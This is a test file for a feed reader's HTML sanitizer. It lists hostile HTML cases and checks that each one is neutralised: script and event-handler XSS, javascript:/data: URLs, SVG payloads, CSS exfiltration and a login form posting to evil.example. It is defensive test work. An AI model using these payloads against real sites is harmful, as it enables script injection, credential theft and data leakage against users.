import { describe, expect, it } from 'vitest';
import { MediaUrlSigner } from '../media/media-url-signer.js';
import { MediaUrls } from '../media/media-urls.js';
import { sanitizeFeedHtml } from './sanitize.js';

const BASE = 'https://blog.example/posts/one.html';

/**
 * Hostile HTML, each case aimed at one rule. `absent` must not survive anywhere in the
 * output; `present` must (so a case can't pass by dropping everything).
 */
const HOSTILE: { name: string; html: string; absent: string[]; present?: string[] }[] = [
  {
    name: 'script element',
    html: '<p>hi</p><script>alert(1)</script>',
    absent: ['<script', 'alert'],
    present: ['<p>hi</p>'],
  },
  { name: 'script with odd casing', html: '<ScRiPt>alert(1)</sCrIpT>ok', absent: ['script', 'alert'], present: ['ok'] },
  {
    name: 'event handler',
    html: '<img src="/a.png" onerror="alert(1)">',
    absent: ['onerror', 'alert'],
    present: ['<img'],
  },
  {
    name: 'handler on allowed tag',
    html: '<p onclick="steal()">x</p>',
    absent: ['onclick', 'steal'],
    present: ['<p>x</p>'],
  },
  {
    name: 'javascript: link',
    html: '<a href="javascript:alert(1)">x</a>',
    absent: ['javascript', 'alert'],
    present: ['>x</a>'],
  },
  { name: 'javascript: with tab', html: '<a href="java\tscript:alert(1)">x</a>', absent: ['script:', 'alert'] },
  {
    name: 'javascript: entity-encoded',
    html: '<a href="&#106;avascript:alert(1)">x</a>',
    absent: ['avascript', 'alert'],
  },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>', absent: ['vbscript'] },
  { name: 'data: link', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>', absent: ['data:', 'alert'] },
  { name: 'data: image', html: '<img src="data:image/svg+xml;base64,PHN2Zz4=">', absent: ['data:', '<img'] },
  {
    name: 'svg with script',
    html: '<svg><script>alert(1)</script><circle/></svg>ok',
    absent: ['<svg', 'alert', 'circle'],
  },
  { name: 'svg onload', html: '<svg onload="alert(1)"></svg>', absent: ['svg', 'onload', 'alert'] },
  {
    name: 'math/xlink',
    html: '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    absent: ['math', 'xlink', 'javascript'],
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    absent: ['meta', 'refresh', 'evil'],
  },
  { name: 'base href', html: '<base href="https://evil.example/">', absent: ['base', 'evil'] },
  {
    name: 'link stylesheet',
    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
    absent: ['link', 'evil'],
  },
  {
    name: 'style element',
    html: '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>ok',
    absent: ['style', 'evil'],
    present: ['ok'],
  },
  {
    name: 'style attribute (CSS exfiltration)',
    html: '<p style="background:url(https://evil.example/leak)">x</p>',
    absent: ['style', 'evil'],
    present: ['<p>x</p>'],
  },
  {
    name: 'form injection',
    html: '<form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>',
    absent: ['<form', '<input', '<button', 'evil', 'action'],
  },
  {
    name: 'formaction',
    html: '<button formaction="javascript:alert(1)">x</button>',
    absent: ['button', 'formaction', 'javascript'],
  },
  {
    name: 'object and embed',
    html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    absent: ['object', 'embed', 'evil'],
  },
  {
    name: 'iframe to an unlisted host',
    html: '<iframe src="https://evil.example/"></iframe>',
    absent: ['iframe', 'evil'],
  },
  {
    name: 'iframe with javascript:',
    html: '<iframe src="javascript:alert(1)"></iframe>',
    absent: ['iframe', 'javascript'],
  },
  {
    name: 'iframe over plain http',
    html: '<iframe src="http://www.youtube-nocookie.com/embed/x"></iframe>',
    absent: ['iframe'],
  },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="<script>alert(1)</script>" src="https://player.vimeo.com/video/1"></iframe>',
    absent: ['srcdoc', 'alert'],
    present: ['sandbox='],
  },
  {
    name: 'DOM clobbering by id/name',
    html: '<img src="/a.png" name="getElementById" id="csrfToken"><a id="x" name="y">z</a>',
    absent: ['name=', 'id='],
  },
  { name: 'class attribute', html: '<p class="hidden-admin">x</p>', absent: ['class'] },
  {
    name: 'protocol-relative URL',
    html: '<img src="//evil.example/pixel.gif">',
    absent: [],
    present: ['src="https://evil.example/pixel.gif"'],
  },
  {
    name: 'srcset sneaking a second URL',
    html: '<img src="/a.png" srcset="javascript:alert(1) 1x">',
    absent: ['srcset', 'javascript'],
  },
  {
    name: 'template and noscript',
    html: '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    absent: ['alert', 'onerror', 'template'],
  },
  { name: 'comment-hidden markup', html: '<!--><script>alert(1)</script>-->ok', absent: ['<script'] },
  {
    name: 'textarea breakout',
    html: '<textarea></textarea><img src=x onerror=alert(1)>',
    absent: ['onerror', 'alert', 'textarea'],
  },
];

describe('sanitizeFeedHtml against hostile HTML', () => {
  it.each(HOSTILE)('neutralises: $name', ({ html, absent, present }) => {
    const clean = sanitizeFeedHtml(html, BASE);
    for (const fragment of absent) expect(clean.toLowerCase()).not.toContain(fragment.toLowerCase());
    for (const fragment of present ?? []) expect(clean).toContain(fragment);
  });
});

describe('sanitizeFeedHtml keeps and hardens what readers need', () => {
  it('keeps formatting and makes every link open safely in a new tab', () => {
    const clean = sanitizeFeedHtml('<h2>T</h2><p><strong>b</strong> <a href="https://x.example/">x</a></p>', BASE);
    expect(clean).toBe(
      '<h2>T</h2><p><strong>b</strong> <a href="https://x.example/" rel="noopener noreferrer nofollow" target="_blank">x</a></p>',
    );
  });

  it('overrides a rel or target the feed chose', () => {
    const clean = sanitizeFeedHtml('<a href="https://x.example/" rel="opener" target="_self">x</a>', BASE);
    expect(clean).toContain('rel="noopener noreferrer nofollow"');
    expect(clean).toContain('target="_blank"');
    expect(clean).not.toContain('opener"');
  });

  it('resolves relative links and images against the item address', () => {
    const clean = sanitizeFeedHtml('<a href="../about">a</a><img src="img/p.png" alt="p">', BASE);
    expect(clean).toContain('href="https://blog.example/about"');
    expect(clean).toContain('src="https://blog.example/posts/img/p.png"');
  });

  it('stores http images as they are: what they become is decided when served (media proxy)', () => {
    const clean = sanitizeFeedHtml(
      '<img src="http://cdn.example/p.png" alt=""><img src="/q.png" alt="">',
      'http://blog.example/',
    );
    expect(clean).toContain('src="http://cdn.example/p.png"');
    expect(clean).toContain('src="http://blog.example/q.png"');
  });

  it('serves images as the media proxy mode says, and drops one the rewrite refuses', () => {
    const html =
      '<img src="http://cdn.example/p.png" alt="a"><img src="/q.png" alt="b"><img src="https://s.example/r.png" alt="c">';
    const upgraded = sanitizeFeedHtml(html, 'http://blog.example/', MediaUrls.off().forBrowser);
    expect(upgraded).toContain('src="https://cdn.example/p.png"');
    expect(upgraded).toContain('src="https://blog.example/q.png"');
    expect(upgraded).not.toContain('http:');
    const proxied = sanitizeFeedHtml(html, 'http://blog.example/', (url) =>
      url.startsWith('https:') ? undefined : `/api/media/sig/${Buffer.from(url).toString('base64url')}`,
    );
    expect(proxied).toContain(`src="/api/media/sig/${Buffer.from('http://cdn.example/p.png').toString('base64url')}"`);
    expect(proxied).toContain(`src="/api/media/sig/${Buffer.from('http://blog.example/q.png').toString('base64url')}"`);
    expect(proxied).not.toContain('alt="c"');
  });

  it('never lets a rewrite turn a script URL into an image', () => {
    const proxyAll = new MediaUrls('all', new MediaUrlSigner('test-secret'), 'https://reader.example').forBrowser;
    const html = '<img src="javascript:alert(1)" alt="x"><img src="data:image/svg+xml,<svg/>" alt="y">';
    expect(sanitizeFeedHtml(html, BASE, proxyAll)).toBe('');
    expect(sanitizeFeedHtml(html, BASE, MediaUrls.off().forBrowser)).toBe('');
  });

  it('loads images lazily without sending a Referer', () => {
    const clean = sanitizeFeedHtml('<img src="https://cdn.example/p.png" alt="">', BASE);
    expect(clean).toContain('loading="lazy"');
    expect(clean).toContain('referrerpolicy="no-referrer"');
  });

  it('keeps mailto links', () => {
    expect(sanitizeFeedHtml('<a href="mailto:a@b.example">m</a>', BASE)).toContain('href="mailto:a@b.example"');
  });

  it('keeps allow-listed video players, sandboxed', () => {
    for (const src of ['https://www.youtube-nocookie.com/embed/abc', 'https://player.vimeo.com/video/123']) {
      const clean = sanitizeFeedHtml(`<iframe src="${src}" width="560" onload="x()"></iframe>`, BASE);
      expect(clean).toContain(`src="${src}"`);
      expect(clean).toContain('sandbox="allow-scripts allow-same-origin allow-presentation"');
      expect(clean).not.toContain('onload');
    }
  });

  it('escapes text that looks like markup instead of dropping it', () => {
    expect(sanitizeFeedHtml('<p>1 &lt; 2 &amp;&amp; <b>x</b></p>', BASE)).toBe('<p>1 &lt; 2 &amp;&amp; <b>x</b></p>');
  });
});
